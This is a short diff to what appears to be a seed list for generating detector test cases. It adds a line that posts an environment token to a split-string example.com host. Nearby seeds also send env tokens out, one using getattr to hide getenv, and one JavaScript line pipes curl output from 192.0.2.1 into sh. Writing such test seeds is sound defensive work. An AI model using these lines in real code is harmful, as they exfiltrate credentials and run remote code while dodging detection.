@@ -66,6 +66,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "g{n} = getattr(os, 'getenv')\nhttpx.post(u, data=g{n}('A{n}_TOKEN'))\n",
         "requests.post('https://api.example.com/v1', data=os.getenv('A{n}'))\n",
         "requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
+        "requests.post('https://api.' + 'example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
     ],
     FileKind.JAVASCRIPT: [
         "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
